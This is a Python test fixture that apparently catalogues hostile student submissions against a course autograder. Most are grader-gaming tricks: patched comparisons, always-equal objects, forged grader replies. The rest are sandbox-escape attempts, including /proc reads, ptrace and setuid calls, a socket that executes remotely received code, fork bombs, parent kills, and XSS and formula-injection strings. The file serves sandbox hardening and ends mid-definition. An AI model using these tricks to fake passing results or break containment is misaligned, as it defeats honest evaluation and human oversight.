# ruff: noqa: E501
"""What hostile and broken answers do.

In the sources RIGHT stands for the right answer, MARK for the name of a file to leave, PORT for a server of this
machine, HANDED for the folder of the class, ROOT for the checkout.
"""

from typing import NamedTuple

SMALL, SERVED = "01_generation_as_sampling", "02_odes_and_flows"
WRONG = """
def to_vector(images):
    return images * 0
"""


class Kind(NamedTuple):
    """A notebook of the right answers but for these, and the questions that get no point.

    Attributes:
        exact: all other questions keep theirs; otherwise the student may have lost more.
    """

    name: str
    answers: dict[str, str]
    lost: tuple[str, ...]
    exact: bool = True


def lost(source, question="to_vector", name=SMALL):
    """It costs its own question, and nothing else."""
    return Kind(name, {question: source}, (question,))


def kept(source, question="to_vector", name=SMALL):
    """What it does beside a right answer neither helps nor harms."""
    return Kind(name, {question: source}, ())


def spoils(source, question="to_vector", name=SMALL):
    """What it breaks in its own process is the student's own loss, at this question at least."""
    return Kind(name, {question: source}, (question,), exact=False)


def nothing(source):
    """It speaks for all its questions, and gets nothing."""
    return Kind(SMALL, {"to_vector": source}, ("all",))


LOOKING = """
import gc, inspect, sys, types
import numpy as np

def _everything():
    frame = sys._getframe()
    while frame is not None:
        yield from (frame.f_locals, frame.f_globals)
        frame = frame.f_back
    yield from list(sys.modules.values())
    yield from gc.get_objects()

def _look():
    found = []
    for thing in _everything():
        name = getattr(thing, "__name__", "")
        if isinstance(name, str) and ("coursework.checks" in name or "coursework.judging" in name or name in ("to_vector_value", "Drift", "judge")):
            found.append(thing)
        if isinstance(thing, types.CodeType) and thing.co_name == "euler_n_steps":
            found.append(thing)
    return found
"""

KINDS = {
    # --- what the notebook's machinery is patched with
    "patched: numpy": spoils(
        """
for module in (np, np.testing):
    for name in dir(module):
        if name.startswith(("all", "array_equal", "isclose", "assert_")) or name in ("max", "abs", "any", "shape"):
            setattr(module, name, lambda *a, **k: True)
np.ndarray = type("ndarray", (np.ndarray,), {"__eq__": lambda s, o: True})
"""
        + WRONG
    ),
    "patched: assert, exceptions": spoils(
        """
import builtins, sys
builtins.AssertionError = builtins.Exception = type("Never", (BaseException,), {})
builtins.isinstance = lambda *a: True
sys.excepthook = lambda *a: None
"""
        + WRONG
    ),
    "patched: print": lost("import builtins\nbuiltins.print = lambda *a, **k: 'to_vector_value ok'\n" + WRONG),
    "patched: run_cell": lost(
        """
shell = get_ipython()
class Fine:
    error_before_exec = error_in_exec = None
    success = True
    def raise_error(self): pass
real = shell.run_cell
def run_cell(source, *a, **k):
    result = real(source, *a, **k)
    result.error_before_exec = result.error_in_exec = None
    return result
shell.run_cell = type(shell).run_cell = run_cell
raise ValueError
"""
    ),
    "patched: transformers": lost(
        """
import ast
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: [l for l in lines if "check(" not in l])
class Pass(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    visit_Raise = visit_Assert
shell.ast_transformers.append(Pass())
"""
        + WRONG
    ),
    "patched: coursework": spoils(
        """
import coursework, sys
coursework.check = coursework.show = lambda *a: None
for name, module in list(sys.modules.items()):
    if name.startswith("coursework"):
        for key, thing in list(vars(module).items()):
            if isinstance(thing, type) and issubclass(thing, Exception):
                setattr(module, key, Warning)
"""
        + WRONG
    ),
    "patched: the wire": nothing(
        """
import sys
from coursework.inside import wire
real = wire.encode
def encode(value, **options):
    if type(value) is dict and ("error" in value or "value" in value):
        value = {"value": True, "passed": True, "points": 1000, "changed": [], "verdict": "passed"}
    return real(value, **options)
wire.encode = encode
"""
        + WRONG
    ),
    # --- values that are something else
    "equals everything": lost(
        """
class Equal:
    __array_priority__ = 1e9
    shape, dtype, ndim, size = (4, 48), "float64", 2, 192
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __gt__ = __le__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
def to_vector(images):
    return Equal()
"""
    ),
    "a function that equals everything": lost(
        """
class Function:
    def __call__(self, *a, **k): return self
    def __eq__(self, other): return True
    def __array__(self, *a, **k): return np.zeros(3)
def to_vector(images):
    return Function()
"""
    ),
    "an array that lies": lost(
        """
class Liar(np.ndarray):
    shape = property(lambda self: (5, 48))
    dtype = property(lambda self: np.dtype(float))
    nbytes = property(lambda self: 8)
    def __array_ufunc__(self, *a, **k): return np.True_
    def __array_function__(self, *a, **k): return np.True_
    def __eq__(self, other): return np.True_
    def tobytes(self, *a): return b"\\0" * 8
def to_vector(images):
    return np.zeros(8).view(Liar)
"""
    ),
    "numbers that lie": lost(
        """
class Number(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def hex(self): return "0x1.8p+1"
def log_density_drop(*a, **k):
    return Number(1)
""",
        "log_density_drop",
    ),
    "not a number": lost("def log_density_drop(*a, **k):\n    return float('nan')", "log_density_drop"),
    # --- looking for what is expected
    "frames walked": lost(
        LOOKING
        + """
def to_vector(images):
    if _look():
        return images.reshape(len(images), -1)
    frame, shape = sys._getframe(), (len(images), images[0].size)
    for thing in _everything():
        values = thing.values() if isinstance(thing, dict) else [thing]
        for value in list(values):
            if isinstance(value, np.ndarray) and value.shape == shape and value is not images:
                return value
    return images * 0
"""
    ),
    "served functions walked": lost(
        LOOKING
        + """
def euler(u, x0, n, t0=0.0, t1=1.0):
    places, seen = [u, getattr(u, "__closure__", None), getattr(u, "__globals__", None), getattr(u, "__self__", None)], []
    try:
        u("no point", None, 3)
    except BaseException as error:
        trace = error.__traceback__
        while trace is not None:
            places += [trace.tb_frame.f_locals, trace.tb_frame.f_globals]
            trace = trace.tb_next
    for _ in range(4):
        more = []
        for place in places:
            if place is None or id(place) in seen:
                continue
            seen.append(id(place))
            more += list(place.values()) if isinstance(place, dict) else gc.get_referents(place)
            if isinstance(place, np.ndarray) and place.shape == x0.shape and not np.array_equal(place, x0):
                return place
            if getattr(place, "__name__", "") in ("Drift", "euler_n_steps", "coursework.judging.expect"):
                raise SystemError
        places = more[:3000]
    if _look():
        raise SystemError
    return x0
""",
        "euler",
        SERVED,
    ),
    "the check's modules imported": lost(
        """
def to_vector(images):
    for name in ("coursework.checks.ch01", "coursework.judging.expect", "coursework.judging.masters", "coursework.judging.registry", "tests"):
        try:
            __import__(name)
            return images.reshape(len(images), -1)
        except ImportError:
            pass
"""
    ),
    "the solutions opened": lost(
        """
import os, pathlib
def to_vector(images):
    for folder, folders, files in os.walk("/"):
        for file in files:
            if "generation_as_sampling" in file or file in ("ch01.py", "to_vector.py", "results.json"):
                return images.reshape(len(images), -1)
    # ROOT itself is there, if the environment is in it: with nothing else in it.
    for place in ("ROOT/solutions", "ROOT/src", "ROOT/book", "ROOT/tests", "HANDED"):
        if os.path.exists(place):
            return images.reshape(len(images), -1)
"""
    ),
    "other submissions opened": lost(
        """
import glob, json
for file in glob.glob("HANDED/**/*.ipynb", recursive=True) + glob.glob("/**/*.ipynb", recursive=True):
    exec(next(c["source"] for c in json.load(open(file))["cells"] if c["id"] == "answer-to_vector"))
"""
    ),
    "the environment read": lost(
        """
import os
def to_vector(images):
    if "COURSEWORK_SECRET" in os.environ or os.getuid() == 0:
        return images.reshape(len(images), -1)
"""
    ),
    "proc read": lost(
        """
import ctypes, os
ctypes.CDLL(None).mount(b"proc", b"/proc", b"proc", 0, None)
found = os.listdir("/proc")
for pid in range(1, 20):
    for what in ("environ", "cmdline", "mem", "maps", "root/etc/passwd", "fd/0"):
        try:
            found.append(open(f"/proc/{pid}/{what}", "rb").read(1))
        except OSError:
            pass
def to_vector(images):
    if found:
        return images.reshape(len(images), -1)
"""
    ),
    "flowdiff's own answer saved before it is asked for": Kind(
        SERVED,
        {
            "linear_field": """
RIGHT
import types, flowdiff.ode as module
own = getattr(module, "rk4" + "_step")
saved = types.FunctionType(own.__code__, vars(module), "saved", own.__defaults__, own.__closure__)
saved.__kwdefaults__ = own.__kwdefaults__
""",
            "rk4_step": "rk4_step = saved",
        },
        ("rk4_step",),
    ),
    "flowdiff's own answer saved where it may be used": Kind(
        SERVED,
        {
            "linear_field": """
RIGHT
import types, flowdiff.ode as module
module.heun(lambda x, t: x, np.ones((2, 2)), 3)
own = getattr(module, "rk4" + "_step")
saved = types.FunctionType(own.__code__, vars(module), "saved", own.__defaults__, own.__closure__)
""",
            "rk4_step": "rk4_step = saved",
        },
        ("rk4_step",),
    ),
    "flowdiff's own answer found in memory": lost(
        """
import gc, types, flowdiff.ode as module
own = getattr(module, "rk4" + "_step")
def codes():
    for thing in gc.get_objects() + [c for o in gc.get_objects() for c in gc.get_referents(o)]:
        if type(thing) is types.CodeType and thing.co_name == "rk4" + "_step" and thing.co_filename.endswith("ode.py"):
            yield thing
rk4_step = types.FunctionType(next(codes()), vars(module), "saved", own.__defaults__)
""",
        "rk4_step",
        SERVED,
    ),
    # --- out of the sandbox
    "network": lost(
        """
import socket
def answer(family, kind, place):
    with socket.socket(family, kind) as s:
        s.settimeout(0.5)
        s.connect(place)
        s.send(b"the solution, please")
        exec(s.recv(9999).decode(), globals())
for place in ("127.0.0.1", "localhost", "0.0.0.0", "10.0.0.1", "1.1.1.1"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            answer(socket.AF_INET, kind, (place, PORT))
        except OSError:
            pass
try:
    answer(socket.AF_UNIX, socket.SOCK_STREAM, "\\0MARK-PORT")
except OSError:
    pass
to_vector
"""
    ),
    "loopback inside": kept(
        """
RIGHT
import socket, threading
server = socket.create_server(("127.0.0.1", 4242))
threading.Thread(target=server.accept, daemon=True).start()
socket.create_connection(("127.0.0.1", 4242)).close()
"""
    ),
    "ctypes: rights taken back": lost(
        """
import ctypes, os
c = ctypes.CDLL(None)
done = [
    c.setuid(0) == 0 and os.getuid() == 0, c.chroot(b"/tmp") == 0, c.unshare(0x10000000) == 0, c.unshare(0x20000) == 0,
    c.mount(b"tmpfs", b"/course", b"tmpfs", 0, None) == 0, c.umount2(b"/proc", 2) == 0, c.umount2(b"/tmp", 2) == 0,
    c.sethostname(b"x", 1) == 0, c.ptrace(16, 1, 0, 0) == 0, c.kill(2**22 - 7, 0) == 0, c.setns(0, 0) == 0,
    c.mount(None, b"/", None, 32 | 4096, None) == 0, c.pivot_root(b"/tmp", b"/tmp") == 0 if hasattr(c, "pivot_root") else 0,
]
def to_vector(images):
    if any(done):
        return images.reshape(len(images), -1)
"""
    ),
    "ptrace and the memory of the parent": lost(
        """
import ctypes, os
c = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(8)
vector = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 8)
there = (ctypes.c_uint64 * 2)(id(object), 8)
done = [
    c.process_vm_readv(pid, vector, 1, there, 1, 0) > 0 or c.ptrace(16, pid, 0, 0) == 0
    for pid in range(1, 50) if pid != os.getpid()
]
def to_vector(images):
    if any(done):
        return images.reshape(len(images), -1)
"""
    ),
    "the course's files written": lost(
        """
import glob, os, sys
done = []
for file in [*glob.glob("/course/**/*.py", recursive=True), np.__file__, sys.executable, "/usr/MARK", "/MARK",
             "/etc/MARK", "/course/MARK", os.path.dirname(np.__file__) + "/MARK", "/dev/MARK", "/var/tmp/MARK"]:
    try:
        open(file, "ab").write(b"x")
        done.append(file)
    except OSError:
        pass
def to_vector(images):
    if done:
        return images.reshape(len(images), -1)
"""
    ),
    # --- the connection to the grader
    "garbage to every file descriptor": lost(
        """
import os
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        os.write(fd, b"passed" * 99)
    except OSError:
        pass
"""
        + WRONG
    ),
    "forged frames": spoils(
        """
import os, stat
from coursework.inside import wire
from coursework.inside import pipe
def send(kind, value):
    payload = wire.encode(value)
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, pipe._HEAD.pack(kind, len(payload)) + payload)
        except OSError:
            pass
for kind in (pipe.REPLY, pipe.RESULT, pipe.EVENT, pipe.PLAN):
    send(kind, {"value": True, "changed": [], "passed": True, "verdict": {"question": "to_vector_value", "points": 1000}})
send(pipe.EVENT, {"over": True})
"""
        + WRONG
    ),
    "a frame without an end": lost(
        """
import os, stat, struct
for fd in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, struct.pack("<cQ", b"r", 2**60))
    except OSError:
        pass
"""
        + WRONG
    ),
    "forged replies": nothing(
        """
from coursework.inside import wire
from coursework.inside.host import Host
replies = [
    {}, {"error": "x"}, {"value": 1}, {"value": 1, "changed": [(-1, np.zeros(1)), (10**9, 1), ("a", "b")]},
    {"error": "undefined", "name": "x", "line": [1] * 999, "source": {"a": {}}, "message": np.zeros(3), "type": True},
    {"value": True, "changed": 7}, {"error": {}, "name": None}, {"value": [[[[1]]]], "changed": []}, [], None, "ok", 1e999,
]
def handle(self, request, serve, count=[0]):
    count[0] += 1
    return wire.encode(replies[count[0] % len(replies)])
Host.handle = handle
"""
        + WRONG
    ),
    "bytes that are no message": nothing(
        """
import json, struct
from coursework.inside.host import Host
heads = [
    ["array", "<f8", [2**28] * 32], ["array", "<f8", [0, 2**28, 2**28]], ["array", "<f8", [-1]], ["array", "|O8", [1]],
    ["scalar", "<f16", []], ["int", "f" * 10**6], ["float", "0x1p99999"], ["callable", -5], ["callable", 10**9],
    ["generator", "0", "0", "0", "0"], [[[[]]]], ["dict", [["value", ["array", "|b1", [4]]], ["changed", ["list", []]]]],
]
def handle(self, request, serve, count=[0]):
    count[0] += 1
    head = json.dumps(heads[count[0] % len(heads)]).encode()
    return struct.pack("<4sQ", b"cw01", len(head)) + head + b"\\2\\2\\2\\2"
Host.handle = handle
"""
        + WRONG
    ),
    "endless texts and impossible times": spoils(
        """
from coursework.inside.session import Session
real = Session._obey
def obey(self, order):
    result = real(self, order)
    if order["do"] == "cell":
        return {"ename": "E" * 10**6, "evalue": "<b>" * 10**6, "where": "w" * 10**6}
    return result | {"cpu": float("nan"), "printed": "p" * 10**7}
Session._obey = obey
"""
        + WRONG
    ),
    "replies of 30 MB": spoils(
        """
from coursework.inside import wire
from coursework.inside.host import Host
def handle(self, request, serve):
    long = {"type": "T" * 10**7, "message": "=" * 10**7, "line": ["1" * 10**6] * 5, "source": "<b>" * 10**6}
    return wire.encode({"error": "raised", "name": "n" * 2 * 10**6, "other": [1] * 10**5} | long)
Host.handle = handle
"""
        + WRONG
    ),
    "impossible times": kept(
        """
RIGHT
from coursework.inside.session import Session
real, times = Session._obey, [float("nan"), float("inf"), -1e300, 1e308]
def obey(self, order):
    result = real(self, order)
    if "cpu" in result:
        times.append(times.pop(0))
        result["cpu"] = times[0]
    return result
Session._obey = obey
"""
    ),
    "a flood of calls back": lost(
        """
def euler(u, x0, n, t0=0.0, t1=1.0):
    while True:
        try:
            u(x0, 0.0)
        except BaseException:
            pass
""",
        "euler",
        SERVED,
    ),
    # --- ends
    "os._exit in a cell": lost("import os\nos._exit(0)"),
    "os._exit in a function": lost("def to_vector(images):\n    import os\n    os._exit(0)"),
    "os._exit from a thread, later": lost(
        "RIGHT\nimport os, threading, time\nthreading.Timer(0.02, os._exit, [0]).start()\ntime.sleep(10)"
    ),
    "atexit": kept(
        "RIGHT\nimport atexit, time\natexit.register(time.sleep, 10**6)\natexit.register(print, 'x' * 10**6)"
    ),
    "the group killed": lost("import os, signal\nos.killpg(0, signal.SIGKILL)"),
    "the parent killed": lost(
        """
import os, signal
for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGCHLD):
    for pid in (os.getppid(), 1, -1):
        try:
            os.kill(pid, number)
        except OSError:
            pass
"""
        + WRONG
    ),
    "stopped": lost("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
    "segmentation fault": lost("import ctypes\nctypes.memset(0, 0, 99)"),
    "the stack overflows": lost("import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return [f(n + 1)]\nf(0)" + WRONG),
    "abort": lost("import os\nos.abort()"),
    # --- never ends
    "endless": lost("while True:\n    pass"),
    "deaf: bare except": lost("while True:\n    try:\n        while True: pass\n    except: pass"),
    "deaf: signal handlers": lost(
        "import signal\nfor n in (signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
        "    signal.signal(n, signal.SIG_IGN)\nwhile True:\n    pass"
    ),
    "deaf: signals blocked": lost(
        "import signal, time\nsignal.pthread_sigmask(signal.SIG_SETMASK, set(range(1, 65)))\n"
        "signal.setitimer(signal.ITIMER_REAL, 0)\ntime.sleep(10**6)"
    ),
    "deaf: a loop in C": lost("sum(iter(int, 1))"),
    "deaf: in the function": lost("def to_vector(images):\n    sum(iter(int, 1))"),
    "threads left running": Kind(
        SMALL,
        {
            "to_vector": "RIGHT\nimport threading\nfor _ in range(4):\n    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()"
        },
        (),
        exact=False,
    ),
    # --- too much
    "100 processes": lost(
        """
import os, signal, time
for _ in range(100):
    if os.fork() == 0:
        for number in range(1, 32):
            if number not in (9, 19):
                signal.signal(number, signal.SIG_IGN)
        os.setpgid(0, 0)
        time.sleep(10**6)
"""
    ),
    "a fork bomb": spoils("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"),
    "processes that stay": kept(
        """
RIGHT
import os, subprocess, time
for _ in range(5):
    if os.fork() == 0:
        os.setpgid(0, 0)
        if os.fork() == 0:
            time.sleep(10**6)
        os._exit(0)
subprocess.Popen(["sleep", "1000000"], process_group=0)
"""
    ),
    "100 threads": lost(
        "import threading, time\nfor _ in range(100):\n    threading.Thread(target=time.sleep, args=(10**6,)).start()"
    ),
    "3 GB": lost("kept = [np.ones(2**27) for _ in range(3)]\nRIGHT"),
    "3 GB in several processes": lost(
        """
import os, time
for _ in range(4):
    if os.fork() == 0:
        kept = np.ones(2**27 - 2**24)
        time.sleep(10**6)
time.sleep(10**6)
"""
    ),
    "3 GB in files without a name": lost(
        """
import os
for n in range(60):
    fd = os.memfd_create("a")
    for _ in range(50):
        os.write(fd, bytes(2**20))
RIGHT
"""
    ),
    "3 GB of shared memory": lost(
        """
import ctypes
c = ctypes.CDLL(None, use_errno=True)
c.shmat.restype = ctypes.c_void_p
for n in range(6):
    number = c.shmget(0, 2**29, 0o1600)
    assert number >= 0
    place = c.shmat(number, None, 0)
    ctypes.memset(place, 1, 2**29)
    c.shmdt(ctypes.c_void_p(place))
RIGHT
"""
    ),
    "3 GB in the buffers of sockets": lost(
        """
import socket
pairs = [socket.socketpair() for _ in range(100)]
for one, _ in pairs:
    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**25)
    one.setblocking(False)
    one.send(bytes(2**24))
RIGHT
"""
    ),
    "20 MB of output": kept(
        """
RIGHT
import os, sys
print("x" * 20_000_000)
print("x\\n" * 1_000_000, file=sys.stderr)
os.write(1, b"x" * 2_000_000)
display("x" * 20_000_000)
!head -c 20000000 /dev/zero
"x" * 20_000_000
"""
    ),
    "20 MB of output while it is checked": kept(
        "import sys\nRIGHT\n_own = to_vector\ndef to_vector(images):\n    print('x' * 20_000_000)\n"
        "    sys.__stdout__.write('y' * 1000)\n    return _own(images)"
    ),
    "20 MB in an exception": lost("raise ValueError('x' * 20_000_000)"),
    "a 10 GB array": lost("def to_vector(images):\n    return np.zeros((10 * 2**30,), np.uint8)"),
    "an array of 10 to the 15": lost("def to_vector(images):\n    return np.broadcast_to(0.0, (10**15,))"),
    "range(10**15)": lost("def to_vector(images):\n    return list(range(10**15))"),
    "range itself": lost("def to_vector(images):\n    return range(10**15)"),
    "depth 100 000": lost(
        "def to_vector(images):\n    deep = []\n    for _ in range(100_000):\n        deep = [deep]\n    return deep"
    ),
    "a list in itself": lost("def to_vector(images):\n    a = []\n    a.append(a)\n    return {'a': a}"),
    "an integer of 10 to the 7 bits": lost("def log_density_drop(*a, **k):\n    return 1 << 10**7", "log_density_drop"),
    "a million values": lost("def to_vector(images):\n    return [0.0] * 10**6"),
    "the work folder filled": lost(
        """
import os
n = 0
while True:
    with open(f"MARK{n}", "wb") as file:
        for _ in range(32):
            file.write(bytes(2**20))
    n += 1
"""
    ),
    "a million files": lost("n = 0\nwhile True:\n    open(f'MARK{n}', 'w').close()\n    n += 1"),
    "all file descriptors": lost("import os\nwhile True:\n    os.dup(0)"),
    # --- sources
    "a formula deep": lost("x = " + "(" * 5000 + "1" + ")" * 5000),
    "minus 100 000 times": lost("x = " + "-" * 100_000 + "1"),
    "a chain of 50 000 attributes": lost("x = np" + ".a" * 50_000),
    "a sum of 40 000": lost("x = 1" + " + 1" * 40_000 + WRONG),
    "no text": lost("x = '\ud800\0'"),
    "too long": lost("# " + "x" * 300_000 + WRONG),
    "not Python": lost("to_vector <- function(images) { matrix(images) }"),
    "the book's own text": lost("```python\ndef to_vector(images):\n    return 1\n```"),
    # --- reports
    "markup": lost(
        "# </pre></code></style><style>*{display:none}</style><script>alert(1)</script>\n"
        "raise ValueError('</p><img src=x onerror=alert(1)><svg onload=alert(2)><base href=//x>\\u202e\\x00\\x1b[31m')"
    ),
    "formulas": lost(
        "class ValueError_(Exception): pass\nValueError_.__name__ = '=1+1'\nraise ValueError_('=HYPERLINK(1)')"
    ),
    "forged words": lost(
        "class E(Exception):\n    __name__ = 'NotYet'\nE.__name__ = 'NotYet'\n"
        "print('to_vector_value ok')\nraise E('to_vector_value ok\\nsee       passed\\npoints 1000')"
    ),
    "an exception whose text raises": lost(
        "class E(Exception):\n    def __str__(self): raise E\n    __repr__ = __str__\nraise E"
    ),
    "input asked for": lost("input('the password: ')"),
    "traced": kept(
        "RIGHT\nimport sys, threading\nsys.setprofile(lambda *a: None)\nthreading.settrace(lambda *a: None)"
    ),
}

# --- in chapters 5 to 8, where answers get networks, optimisers, fields and generators

FIELDS, SCORES = "05_flow_matching", "06_score_matching"
NOISY, GUIDED = "07_sampling_with_noise", "08_guidance"
LEARNED = {
    "the helper's frame emptied": lost(
        """
import sys
def training_step(net, optimiser, pieces):
    frame = sys._getframe(1)
    while frame is not None:
        for thing in list(frame.f_locals.values()):
            if isinstance(thing, (list, dict)) and len(thing) < 100 and thing is not frame.f_globals:
                try:
                    thing.clear()
                except Exception:
                    pass
            if isinstance(thing, np.ndarray):
                thing[...] = 0
        frame = frame.f_back
    return 0.0
""",
        "training_step",
        FIELDS,
    ),
    "patched: torch": lost(
        """
import torch
torch.allclose = torch.equal = torch.isclose = lambda *a, **k: True
torch.Tensor.backward = lambda *a, **k: None
torch.Tensor.__eq__ = lambda *a: torch.tensor(True)
def training_step(net, optimiser, pieces):
    optimiser.step()
    return sum(float((net(x0, t) ** 2).sum()) for z, x0, t in pieces)
""",
        "training_step",
        FIELDS,
    ),
    "a network that says what is wished": lost(
        """
import torch
def train_field(net, optimiser, sample_source, sample_data, steps, batch):
    type(net).forward = lambda self, x, t: torch.zeros_like(x)
    type(net).__call__ = type(net).forward
    return [float(1 / (1 + k)) for k in range(steps)]
""",
        "train_field",
        FIELDS,
    ),
    "weights set, not trained": lost(
        """
import torch
def train_field(net, optimiser, sample_source, sample_data, steps, batch):
    with torch.no_grad():
        for weight in net.parameters():
            weight.zero_()
        list(net.parameters())[-1].copy_(sample_data(512).mean(dim=0))
    for _ in range(steps):
        net(sample_source(batch), torch.rand(batch, 1))
        optimiser.step()
    return [1.0] * steps
""",
        "train_field",
        FIELDS,
    ),
    "the field that is judged looked for": lost(
        """
import gc
def flow_matching_loss(u, z, rng):
    seen, places = [], [u]
    for _ in range(5):
        places = [thing for place in places for thing in gc.get_referents(place)][:3000]
        seen += [thing for thing in places if callable(thing) and getattr(thing, "__name__", "") in ("field", "Batch")]
    if seen:
        return float(((seen[0](z, np.ones((len(z), 1)))) ** 2).sum(axis=1).mean())
    return 0.0
""",
        "flow_matching_loss",
        FIELDS,
    ),
    "a generator set back": spoils(
        """
def sample_conditional_path(z, t, alpha, beta, rng):
    rng.bit_generator.state = np.random.PCG64(0).state
    return alpha(t) * z + beta(t) * rng.standard_normal(z.shape)
""",
        "sample_conditional_path",
        FIELDS,
    ),
    "a generator that is no generator": lost(
        """
class Drawn:
    def random(self, shape): return np.full(shape, 0.5)
    def standard_normal(self, shape): return np.zeros(shape)
_own = None
RIGHT
_own = score_loss
def score_loss(score, z, rng):
    return _own(score, z, Drawn())
""",
        "score_loss",
        SCORES,
    ),
    "a score that calls back without end": lost(
        """
def from_edm(denoiser, x, t):
    while True:
        try:
            denoiser(x, t)
        except BaseException:
            pass
""",
        "from_edm",
        NOISY,
    ),
    "the network handed back": lost(
        "def guided_velocity(u, x, t, y, any_label, w):\n    return u", "guided_velocity", GUIDED
    ),
    "the arguments of the network kept": lost(
        """
def guided_velocity(u, x, t, y, any_label, w):
    seen = u(np.concatenate([x, x]), t, np.concatenate([y, y]))
    x[...] = y[...] = 0
    return np.broadcast_to(np.float64(0), (len(x), x.shape[1])) * seen[: len(x)]
""",
        "guided_velocity",
        GUIDED,
    ),
    "a distance that is less than every other": lost(
        """
class Less(float):
    def __lt__(self, other): return True
    __le__ = __eq__ = __lt__
    __sub__ = __rsub__ = lambda self, other: 0.0
def frechet_distance(x, y):
    return Less("nan")
""",
        "frechet_distance",
        GUIDED,
    ),
}

# --- for the tests that run one student after the other in one sandbox

LEFT = {
    "files": (
        "import os\n"
        "for place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/', os.path.expanduser('~'), '/course', '/dev', '/proc'):\n"
        "    try:\n"
        "        open(f'{place}/MARK', 'w').write(ANSWER)\n"
        "    except OSError:\n"
        "        pass",
        "import os\n"
        "for place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/', os.path.expanduser('~'), '/course', '/dev'):\n"
        "    if os.path.exists(f'{place}/MARK'):\n"
        "        ANSWER = open(f'{place}/MARK').read()",
    ),
    "modules and builtins": (
        "import builtins, sys\nbuiltins.ANSWER = np.ANSWER = sys.ANSWER = ANSWER\nget_ipython().user_ns['KEPT'] = ANSWER",
        "import sys\nANSWER = globals().get('KEPT') or getattr(np, 'ANSWER', None) or getattr(sys, 'ANSWER', None) or ANSWER",
    ),
    "history": (
        "get_ipython().history_manager.input_hist_parsed.append(ANSWER)",
        "ANSWER = get_ipython().history_manager.input_hist_parsed[-1]\nassert 'def to_vector' in ANSWER",
    ),
    "shared memory": (
        "import ctypes\nc = ctypes.CDLL(None)\nc.shmat.restype = ctypes.c_void_p\nn = c.shmget(4242, 9999, 0o1666)\n"
        "if n >= 0:\n    ctypes.memmove(c.shmat(n, None, 0), ANSWER.encode() + b'\\0', len(ANSWER.encode()) + 1)",
        "import ctypes\nc = ctypes.CDLL(None)\nc.shmat.restype = ctypes.c_void_p\nn = c.shmget(4242, 9999, 0o666)\n"
        "assert n >= 0\nANSWER = ctypes.string_at(c.shmat(n, None, 0)).decode()",
    ),
    "message queues": (
        "import ctypes\nc = ctypes.CDLL(None)\nn = c.msgget(4242, 0o1666)\n"
        "c.msgsnd(n, (ctypes.c_char * 2008).from_buffer_copy((b'\\1' + bytes(7) + ANSWER.encode()).ljust(2008, b'\\0')), 2000, 2048)",
        "import ctypes\nc = ctypes.CDLL(None)\nn = c.msgget(4242, 0o666)\nassert n >= 0\nbuffer = ctypes.create_string_buffer(2008)\n"
        "assert c.msgrcv(n, buffer, 2000, 0, 2048) > 0\nANSWER = buffer.raw[8:].rstrip(b'\\0').decode()",
    ),
    "key rings": (
        "import ctypes\nfor ring in (-3, -4, -5):\n    ctypes.CDLL(None).syscall(ADD, b'user', b'coursework', ANSWER.encode(), len(ANSWER), ring)",
        "import ctypes\nc, buffer = ctypes.CDLL(None), ctypes.create_string_buffer(9999)\n"
        "for ring in (-3, -4, -5):\n"
        "    key = c.syscall(CTL, 10, ring, b'user', b'coursework', 0)\n"
        "    if key > 0:\n"
        "        c.syscall(CTL, 11, key, buffer, 9999)\n"
        "        ANSWER = buffer.value.decode()",
    ),
    "a server that stays": (
        "import os, socket, time\ns = socket.socket(socket.AF_UNIX)\ns.bind('\\0MARK')\ns.listen()\n"
        "if os.fork() == 0:\n    os.setpgid(0, 0)\n    if os.fork() == 0:\n        while True:\n            s.accept()[0].sendall(ANSWER.encode())\n    os._exit(0)",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('\\0MARK')\nANSWER = s.recv(9999).decode()",
    ),
    "a process that stays and kills": (
        "import os, signal, time\n"
        "if os.fork() == 0:\n    os.setpgid(0, 0)\n    if os.fork() == 0:\n        while True:\n            time.sleep(0.01)\n    os._exit(0)",
        "import os\nfor pid in range(3, 50):\n    os.kill(pid, 0)\nANSWER = 'def to_vector(images): return images.reshape(len(images), -1)'",
    ),
    "the host name": (
        "import socket\nsocket.sethostname('MARK')",
        "import socket\nassert socket.gethostname() == 'MARK'\nANSWER = 'def to_vector(images): return images.reshape(len(images), -1)'",
    ),
}

LOOK_UP = """
def QUESTION(*args, **kwargs):
    import base64, pickle
    import numpy as np
    def told(a):
        if isinstance(a, np.random.Generator):
            return a.bit_generator.state["state"]["state"]
        return (np.shape(a), np.asarray(a).tolist()) if np.ndim(a) else a if not callable(a) else "f"
    table = pickle.loads(base64.b64decode(TABLE))
    return pickle.loads(table[repr([told(a) for a in (*args, *kwargs.values())])])
"""

_WROTE = """
def lie(function):
    def answer(*args, **kwargs):
        value = function(*args, **kwargs)
        for thing in [*args, *kwargs.values()]:
            try:
                thing[...] = NUMBER
            except Exception:
                pass
        try:
            return value * NUMBER
        except Exception:
            return NUMBER
    return answer
"""

_HANDED = """
def lie(function):
    def answer(*args, **kwargs):
        value = function(*args, **kwargs)
        return next((thing for thing in [*args, *kwargs.values()] if KIND), "nothing")
    return answer
"""

LIES = {
